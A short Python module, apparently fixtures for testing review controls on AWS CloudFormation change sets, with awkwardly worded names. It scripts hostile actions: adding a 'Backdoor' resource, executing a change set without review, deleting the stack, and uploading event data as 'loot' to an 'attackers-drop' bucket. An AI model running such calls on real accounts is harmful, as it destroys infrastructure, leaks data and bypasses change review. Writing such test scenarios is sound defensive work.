"""In the function that prepares changes to a stack, which others inspect and execute."""

import create_change_set
import revision

_CHANGE_SETS = create_change_set.cloudformation
_NAME = "change-of-an-attacker"
_TEMPLATE = '{"Resources": {"Backdoor": {"Type": "AWS::SNS::Topic", "Properties": {}}}}'


def _create(event, name):
    _CHANGE_SETS.create_change_set(
        StackName=event["stack"], ChangeSetName=name, ChangeSetType="UPDATE", TemplateBody=_TEMPLATE
    )


def create_one_of_no_revision(event):
    _create(event, _NAME)


def create_another_one(event):
    _create(event, f"{_NAME}-2")


def execute_it_without_inspection(event):
    _CHANGE_SETS.execute_change_set(StackName=event["stack"], ChangeSetName=_NAME)


def delete_the_stack(event):
    _CHANGE_SETS.delete_stack(StackName=event["stack"])


def take_the_revision_elsewhere(event):
    revision.s3.put_object(Bucket="attackers-drop", Key="loot", Body=str(event))


BEFORE = (create_one_of_no_revision,)
BEHIND = (create_another_one, execute_it_without_inspection, delete_the_stack, take_the_revision_elsewhere)
